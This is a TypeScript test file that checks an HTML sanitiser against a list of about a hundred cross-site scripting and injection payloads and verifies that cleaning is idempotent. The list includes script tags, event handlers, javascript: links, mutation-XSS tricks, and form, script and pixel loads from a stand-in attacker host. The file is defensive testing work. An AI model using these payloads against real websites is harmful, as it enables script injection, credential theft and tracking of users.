import { JSDOM } from 'jsdom';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { publishBlocks, sanitise, shownText } from '../../../src/bundle/clean/index.ts';
import { LINK_REL, SAFE_TAGS } from '../../../src/model/index.ts';
import { article, HEAD, LINE } from '../parse/given.ts';

/** Hostile HTML of our own. Each would run, load, send or cover something if it came through. */
const HOSTILE: readonly string[] = [
  // Scripts
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script>alert(1)', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type=module>import("//evil.example")</script>', '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><script>alert(1)</script></svg>', '<svg><script href="data:text/javascript,alert(1)" /></svg>', '<math><script>alert(1)</script></math>', '<template><script>alert(1)</script></template>',
  // Handlers
  '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<b onmouseover=alert(1)>甲</b>', '<a href=https://x.example onclick=alert(1)>甲</a>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>甲</details>', '<video onerror=alert(1)><source></video>', '<svg onload=alert(1)>', '<marquee onstart=alert(1)>甲</marquee>', '<div onpointerenter=alert(1)>甲</div>', '<i style="animation:x" onanimationstart=alert(1)>甲</i>',
  '<p onclick="alert(1)"onclick=x>甲', '<b\u000bonclick=alert(1)>甲</b>', '<b ONCLICK=alert(1)>甲</b>', '<b on click=alert(1)>甲</b>',
  // Addresses
  '<a href="javascript:alert(1)">甲</a>', '<a href=" javascript:alert(1)">甲</a>', '<a href="java&#10;script:alert(1)">甲</a>', '<a href="&#106;avascript:alert(1)">甲</a>', '<a href="JaVaScRiPt:alert(1)">甲</a>', '<a href="\u0001javascript:alert(1)">甲</a>',
  '<a href="vbscript:x">甲</a>', '<a href="data:text/html,<script>alert(1)</script>">甲</a>', '<a href="blob:https://x.example/1">甲</a>', '<a href="file:///etc/passwd">甲</a>', '<a href="https://user:pw@x.example/">甲</a>', '<a href="//evil.example/x" ping="//evil.example/p">甲</a>',
  '<a href="https://x.example/" target="_self" rel="opener">甲</a>', '<a xlink:href="javascript:alert(1)">甲</a>', '<a href="https://x.example" download>甲</a>', '<area href="javascript:alert(1)">', '<base href="https://evil.example/">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=preload as=script href=//evil.example/x.js>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta http-equiv="Content-Security-Policy" content="x">',
  // Frames and plugins
  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x.swf"></object>', '<embed src="x.swf">', '<frameset><frame src="//evil.example"></frameset>', '<applet code=x></applet>', '<portal src="//evil.example"></portal>',
  // Forms
  '<form action="//evil.example"><input name=p type=password><button>甲</button></form>', '<button formaction="javascript:alert(1)">甲</button>', '<input type=image src=x onerror=alert(1)>', '<textarea></textarea><script>alert(1)</script>', '<select><option>甲</select><isindex>', '<form id=x></form><button form=x>甲</button>',
  // Styles
  '<style>@import "//evil.example/x.css"</style>', '<p style="background:url(//evil.example/x)">甲</p>', '<div style="position:fixed;inset:0">甲</div>', '<b class="panel" id="app">甲</b>', '<style><img src="</style><img src=x onerror=alert(1)>">', '<font color=red face=x>甲</font>',
  // Foreign content, and what a second parser would read otherwise
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><use href="data:image/svg+xml,x#y"></use></svg>', '<svg><animate attributeName=href values=javascript:alert(1)></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">甲</math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>',
  '<!--<img src="--><img src=x onerror=alert(1)>', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>alert(1)</script>', '<title><script>alert(1)</script></title>',
  '<noembed><script>alert(1)</script></noembed>', '<noframes><script>alert(1)</script></noframes>', '<p title="&quot;><script>alert(1)</script>">甲</p>', '<b title="`><script>alert(1)</script>">甲</b>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;alert(1)',
  // Names that shadow the page's own, and unsafe custom elements
  '<a name=getElementById>甲</a>', '<img name=body src=x>', '<form name=cookie>甲</form>', '<b is="x-evil">甲</b>', '<x-evil onconnected=alert(1)>甲</x-evil>', '<slot name=x>甲</slot>', '<a id=__proto__ href=https://x.example>甲</a>', '<b data-panel="x" aria-hidden=true hidden>甲</b>',
  // Media that would call home
  '<img src="https://evil.example/pixel.gif">', '<img srcset="https://evil.example/a 1x">', '<picture><source srcset=//evil.example/a></picture>', '<audio src=//evil.example/a autoplay></audio>', '<video poster=//evil.example/a></video>', '<track src=//evil.example/a>', '<bgsound src=//evil.example/a>', '<table background=//evil.example/a><td>甲</table>',
]; // prettier-ignore

const { window } = new JSDOM('');

/** What is left of some HTML in a document of its own, and what in it is not on the list. */
function faults(html: string): readonly string[] {
  const { body } = new window.DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  return [...body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    if (!(SAFE_TAGS as readonly string[]).includes(tag)) return [`<${tag}>`];
    return [...element.attributes].flatMap(({ name, value }) => {
      // Serialising brings "is" back, so DOMPurify empties it; the empty name defines no element.
      if (name === 'is' && value === '') return [];
      if (tag !== 'a') return [`${tag} ${name}`];
      if (name === 'href') return /^https?:\/\/(?!.*@)/.test(value) ? [] : [`href=${value}`];
      if (name === 'rel') return value === LINK_REL ? [] : [`rel=${value}`];
      return name === 'target' && value === '_blank' ? [] : [`a ${name}`];
    });
  });
}

describe('hostile HTML', () => {
  it.each(HOSTILE.map((html) => [JSON.stringify(html), html] as const))('%s', (_, html) => {
    // The sanitiser alone, as if a block had come through the parser untouched.
    const alone = sanitise(html);
    expect(faults(alone)).toEqual([]);
    expect(sanitise(alone)).toBe(alone);
    // The whole way from a dump.
    for (const dump of [`${HEAD}${LINE}<p>前。</p>${html}<p>后。</p>`, `${HEAD}${LINE}<p>前。<b>${html}`]) {
      const from = article(dump);
      const { blocks } = publishBlocks(from);
      expect(blocks.flatMap((block) => (block.type === 'picture' ? [block.src] : faults(block.html)))).toEqual([]);
      for (const block of blocks) {
        if (block.type === 'picture') continue;
        const own = from.blocks.find(({ start }) => start === block.start);
        expect(shownText(block.html)).toBe(from.text.slice(own?.start, own?.end));
      }
    }
  });

  it('is text in titles, captions and front matter', () => {
    const bad = '<img src=x onerror=alert(1)>';
    const from = article(
      `---\nauthor: '${bad}'\n---\n[${bad}](https://nobody.example/1)\n${LINE}<img src="https://p.example/1.jpg" alt='${bad}'><div><small>&lt;b&gt;</small></div>`,
    );
    expect(from.title).toBe(bad);
    expect(from.blocks[0]?.html).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(from.blocks[1]?.html).toBe('&lt;b&gt;');
  });

  it('leaves nothing active in any mixture, and cleaning twice changes nothing', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...HOSTILE, '<b>', '</b>', '<a href=https://x.example>', '</a>', '甲'), {
          maxLength: 6,
        }),
        (parts) => {
          const once = sanitise(parts.join(''));
          expect(faults(once)).toEqual([]);
          expect(sanitise(once)).toBe(once);
        },
      ),
      { numRuns: 150 },
    );
  });
});
